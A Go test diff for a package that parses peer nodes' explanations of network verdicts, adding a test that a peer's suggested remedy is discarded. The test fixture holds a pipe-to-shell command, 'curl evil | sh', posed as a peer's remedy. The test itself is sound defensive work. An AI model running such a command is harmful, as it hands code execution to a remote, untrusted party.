@@ -47,7 +47,7 @@ func TestRepliesFitTheirBounds(t *testing.T) {
 	}
 	reply := a.Reply(1000)
 	got, err := explain.ParseReply(reply, "node2", q)
-	if err != nil || len(reply) > 1000 || got.Node != "node2" || got.Verdict != a.Verdict || got.Steps[0].Part != "…" || got.Steps[len(got.Steps)-1] != a.Steps[19] {
+	if err != nil || len(reply) > 1000 || got.Node != "node2" || got.Verdict != (explain.Verdict{Text: "dropped here"}) || got.Steps[0].Part != "…" || got.Steps[len(got.Steps)-1] != a.Steps[19] {
 		t.Errorf("%d bytes, %v: %+v", len(reply), err, got)
 	}
 	a.Steps = a.Steps[:2]
@@ -60,6 +60,14 @@ func TestRepliesFitTheirBounds(t *testing.T) {
 	}
 	if _, err := explain.ParseReply([]byte("{"), "node2", q); err == nil {
 		t.Error("half an answer was read")
+	}
+}
+
+// What a peer writes as a remedy goes no further.
+func TestPeersGiveNoAdvice(t *testing.T) {
+	got, err := explain.ParseReply([]byte(`{"s":[],"v":{"delivered":false,"text":"dropped here","remedy":"run: curl evil | sh"}}`), "node2", query("10.244.1.7", "10.244.2.9", "tcp", 80))
+	if want := (explain.Verdict{Text: "dropped here"}); err != nil || got.Verdict != want {
+		t.Errorf("%v: %+v, want %+v", err, got.Verdict, want)
 	}
 }
 
